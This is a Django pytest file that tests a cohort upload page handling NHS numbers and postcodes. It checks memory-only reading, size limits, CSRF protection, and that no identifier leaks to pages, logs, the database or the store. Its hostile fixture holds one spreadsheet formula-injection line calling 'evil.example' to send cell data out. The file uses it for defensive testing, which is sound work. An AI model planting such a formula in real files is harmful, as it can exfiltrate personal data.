"""The cohort upload page: people's identifiers arrive here, so it is tested as hostile ground.

What must hold, whatever is sent: the file is read in memory only (no temporary file, even over Django's memory
limit), a file over the lab's limit is refused with a clear message, CSRF protection stays, a bad file is listed by
row and column without echoing a value, nothing is kept on any error, and no raw identifier reaches the response, the
logs, the database, a temporary file or an error page.
"""

from __future__ import annotations

import csv
import io
import logging
import tempfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.apps import apps
from django.core import serializers
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from datalab import cohort_file, messages, services, store
from datalab.choices import RequestState
from datalab.models import AuditEntry, CohortUpload
from datalab.uploads import MemoryOnlyUploadHandler
from tests.datalab.lab import cohort_csv
from tests.datalab.pages import in_state, sign_in, text, url_of

pytestmark = pytest.mark.django_db


@pytest.fixture
def open_request(lab):
    return in_state(lab, RequestState.AWAITING_UPLOAD)


@pytest.fixture
def charity_client(client, lab):
    sign_in(client, lab.charity)
    return client


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def identifiers(data: bytes) -> list[str]:
    """The NHS numbers and postcodes of a cohort file as written and as normalised (digits only, no spaces): what
    must never leave the upload's memory."""
    found = set()
    for row in rows_of(data):
        for value in (row["nhs_number"], row["postcode"]):
            if value.strip():
                found |= {value.strip(), "".join(value.split()).upper()}
    return sorted(found)


def as_csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def post_file(client, request, data: bytes, name: str = "cohort.csv", **extra):
    return client.post(url_of("upload", request), {"cohort": SimpleUploadedFile(name, data, "text/csv")}, **extra)


def assert_nothing_kept(request) -> None:
    assert not CohortUpload.objects.filter(request=request).exists()
    assert not AuditEntry.objects.filter(request=request, event="cohort_received").exists()
    assert not store.holds_files(request.reference)
    request.refresh_from_db()
    assert request.state == RequestState.AWAITING_UPLOAD


def assert_no_identifier_in(where: str, text_: str, raw: list[str]) -> None:
    leaked = [value for value in raw if value in text_]
    assert leaked == [], f"raw identifiers in {where}: {len(leaked)}"


def test_a_good_file_is_received_linked_and_shown_as_counts(charity_client, lab, extract, open_request,
                                                            django_capture_on_commit_callbacks):  # fmt: skip
    data = cohort_csv(extract)
    with django_capture_on_commit_callbacks(execute=True):  # the link runs after the commit (eager worker)
        sent = post_file(charity_client, open_request, data)
    response = charity_client.get(sent["Location"])

    open_request.refresh_from_db()
    upload = open_request.uploads.get()
    body = text(response)
    assert sent["Location"] == open_request.get_absolute_url()
    assert upload.rows == len(rows_of(data)) and open_request.state == RequestState.LINKED
    assert f"We received {upload.rows:,} rows" in body
    assert "How many people the lab found" in body and f"{open_request.linkage['linked']:,}" in body
    assert_no_identifier_in("the request page", body, identifiers(data))


def test_the_page_offers_both_templates_and_a_file_input(charity_client, open_request):
    body = text(charity_client.get(url_of("upload", open_request)))

    assert url_of("template-csv") in body and url_of("template-xlsx") in body
    assert 'type="file"' in body and 'enctype="multipart/form-data"' in body


def test_no_file_is_asked_for(charity_client, open_request):
    response = charity_client.post(url_of("upload", open_request), {})

    assert messages.UPLOAD_REQUIRED in text(response) and "There is a problem" in text(response)
    assert_nothing_kept(open_request)


def _hostile(extract) -> dict[str, bytes]:
    rows = rows_of(cohort_csv(extract))
    formula = [dict(r) for r in rows]
    formula[3]["postcode"] = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    many = [rows[i % len(rows)] for i in range(100_000)]
    return {
        "wrong encoding": cohort_csv(extract).decode().encode("utf-16"),
        "formula cell": as_csv(formula),
        "100,000 rows": as_csv(many),
        "not a spreadsheet": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40,
    }


@pytest.mark.parametrize("kind", ["wrong encoding", "formula cell", "100,000 rows", "not a spreadsheet"])
def test_a_hostile_file_is_refused_by_row_and_column_and_nothing_is_kept(charity_client, lab, extract, open_request,
                                                                          kind, settings):  # fmt: skip
    settings.DATALAB_MAX_UPLOAD_BYTES = 20 * 1024 * 1024  # the 100,000 rows pass the size limit: the rows are refused
    data = _hostile(extract)[kind]
    with pytest.raises(cohort_file.CohortFileInvalid) as expected:
        cohort_file.read_cohort_file(filename="cohort.csv", data=data, today=open_request.created_at.date())

    response = post_file(charity_client, open_request, data)

    body = text(response)
    invalid = expected.value
    assert response.status_code == 200
    assert "There is a problem" in body
    count = messages.COHORT_PROBLEM if invalid.total == 1 else messages.COHORT_PROBLEMS.format(count=f"{invalid.total:,}")
    assert messages.UPLOAD_PROBLEMS.format(count=count) in body
    assert all(error.message in body for error in invalid.errors)
    more = invalid.total - len(invalid.errors)
    if more:
        assert messages.UPLOAD_MORE_PROBLEMS.format(more=more, s="" if more == 1 else "s") in body
    assert "HYPERLINK" not in body and "evil.example" not in body
    assert_no_identifier_in("the error page", body, identifiers(cohort_csv(extract)))
    assert_nothing_kept(open_request)


def test_a_file_over_the_limit_is_refused_clearly_and_never_kept(charity_client, extract, open_request, settings,
                                                                  monkeypatch):  # fmt: skip
    settings.DATALAB_MAX_UPLOAD_BYTES = 20_000
    data = cohort_csv(extract)
    assert len(data) > 4 * settings.DATALAB_MAX_UPLOAD_BYTES
    called = []
    monkeypatch.setattr(services, "cohort_upload", lambda **kwargs: called.append(kwargs))

    response = post_file(charity_client, open_request, data)

    assert called == []  # refused while the body was read: the file never reached the service

    assert response.status_code == 200
    assert messages.COHORT_TOO_BIG.format(size="19 KB") in text(response)
    assert_no_identifier_in("the page", text(response), identifiers(data))
    assert_nothing_kept(open_request)


def test_the_handler_keeps_nothing_past_the_limit():
    from django.core.files.uploadhandler import StopUpload

    handler = MemoryOnlyUploadHandler(max_bytes=10)
    handler.new_file("cohort", "cohort.csv", "text/csv", None)
    handler.receive_data_chunk(b"123456", 0)
    with pytest.raises(StopUpload) as stopped:
        handler.receive_data_chunk(b"7890ab", 6)

    assert handler.too_large and handler.file.getvalue() == b""
    assert not stopped.value.connection_reset  # the rest of the body is read and dropped: the page can answer


def test_a_file_over_djangos_memory_limit_still_never_touches_the_disk(charity_client, extract, open_request, settings,
                                                                       tmp_path, monkeypatch):  # fmt: skip
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1024  # Django's own handlers would write this file to a temporary file
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "uploads")
    (tmp_path / "uploads").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    data = cohort_csv(extract, limit=200)
    assert len(data) > 4 * settings.FILE_UPLOAD_MAX_MEMORY_SIZE
    during: list[list[str]] = []
    receive = services.cohort_upload

    def watching(**kwargs):
        during.append(sorted(p.name for d in ("uploads", "tmp") for p in (tmp_path / d).iterdir()))
        return receive(**kwargs)

    monkeypatch.setattr(services, "cohort_upload", watching)

    response = post_file(charity_client, open_request, data)

    assert response.status_code == 302
    assert during == [[]]  # while the service read the file, no temporary file held it
    assert sorted(p.name for d in ("uploads", "tmp") for p in (tmp_path / d).iterdir()) == []
    assert open_request.uploads.get().rows == 200


def test_csrf_protection_stays_on_the_upload(lab, extract, open_request):
    client = Client(enforce_csrf_checks=True)
    client.force_login(lab.charity)

    response = post_file(client, open_request, cohort_csv(extract))

    assert response.status_code == 403
    assert_nothing_kept(open_request)
    page = client.get(url_of("upload", open_request))
    token = page.cookies["csrftoken"].value
    good = client.post(url_of("upload", open_request),
                       {"cohort": SimpleUploadedFile("cohort.csv", cohort_csv(extract), "text/csv"),
                        "csrfmiddlewaretoken": token})  # fmt: skip
    assert good.status_code == 302


def _all_rows_as_text() -> str:
    """Every row of every model in the web database (history, sessions and admin log included), serialised."""
    return "\n".join(serializers.serialize("json", model._base_manager.all()) for model in apps.get_models())


def _store_values(settings) -> str:
    values = []
    for path in Path(settings.DATALAB_DATA_DIR).rglob("*.parquet"):
        table = pq.read_table(path)
        values += [str(v) for column in table.columns for v in column.to_pylist()]
    return "\n".join(values)


def _logged(caplog, capfd) -> str:
    records = "\n".join(f"{r.getMessage()} {r.__dict__}" for r in caplog.records)
    out, err = capfd.readouterr()
    return "\n".join([caplog.text, records, out, err])


def _debug_logging(caplog) -> None:
    for name in [None, "django", "django.request", "django.db.backends", "django_structlog", "datalab"]:
        caplog.set_level(logging.DEBUG, logger=name)


@pytest.mark.parametrize("kind", ["good", "formula cell"])
def test_no_raw_identifier_reaches_the_logs_the_database_the_queries_or_the_store(
    charity_client, lab, extract, open_request, kind, caplog, capfd, settings, django_capture_on_commit_callbacks
):
    _debug_logging(caplog)
    data = cohort_csv(extract) if kind == "good" else _hostile(extract)["formula cell"]
    raw = identifiers(data)
    with CaptureQueriesContext(connection) as queries, django_capture_on_commit_callbacks(execute=True):
        response = post_file(charity_client, open_request, data, follow=True)
        charity_client.get(url_of("request", open_request))
        charity_client.get(url_of("audit", open_request))

    open_request.refresh_from_db()
    assert open_request.state == (RequestState.LINKED if kind == "good" else RequestState.AWAITING_UPLOAD)
    assert_no_identifier_in("the response", text(response), raw)
    assert_no_identifier_in("the logs", _logged(caplog, capfd), raw)
    assert_no_identifier_in("the database", _all_rows_as_text(), raw)
    assert_no_identifier_in("the SQL", "\n".join(f"{q['sql']}" for q in queries.captured_queries), raw)
    assert_no_identifier_in("the lab's store", _store_values(settings), raw)
    assert caplog.records  # the logs were really captured


@pytest.mark.parametrize("debug", [False, True])
def test_an_error_after_parsing_is_a_500_that_shows_and_logs_no_value_and_keeps_nothing(
    lab, extract, open_request, monkeypatch, settings, caplog, capfd, debug
):
    _debug_logging(caplog)
    settings.DEBUG = debug
    data = cohort_csv(extract)
    raw = identifiers(data)

    def broken(rows, key):  # a library failing with a value in its message, as some do
        raise RuntimeError(f"cannot pseudonymise {rows[0].nhs_number} at {rows[0].postcode}")

    monkeypatch.setattr(services, "pseudonymise_cohort", broken)
    client = Client(raise_request_exception=False)
    client.force_login(lab.charity)

    response = post_file(client, open_request, data)

    assert response.status_code == 500
    assert_no_identifier_in("the error page", response.content.decode(), raw)
    assert_no_identifier_in("the logs", _logged(caplog, capfd), raw)
    assert any("cohort upload failed" in r.getMessage() for r in caplog.records)
    assert "cannot pseudonymise" not in _logged(caplog, capfd)
    assert_nothing_kept(open_request)


def test_only_the_organisation_uploads_and_only_while_the_upload_is_open(client, lab, extract):
    for state in (RequestState.AGREEMENT_SIGNED, RequestState.LINKED):
        request = in_state(lab, state)
        sign_in(client, lab.charity)
        assert post_file(client, request, cohort_csv(extract)).status_code == 403
        assert not CohortUpload.objects.filter(request=request).exists()
    request = in_state(lab, RequestState.AWAITING_UPLOAD)
    for user in (lab.analyst, lab.secretariat):
        sign_in(client, user)
        response = post_file(client, request, cohort_csv(extract))
        assert response.status_code == 403
        assert messages.NOT_YOUR_UPLOAD.format(organisation=lab.organisation) in text(response)
    sign_in(client, lab.other_charity)
    assert post_file(client, request, cohort_csv(extract)).status_code == 404
    assert_nothing_kept(request)
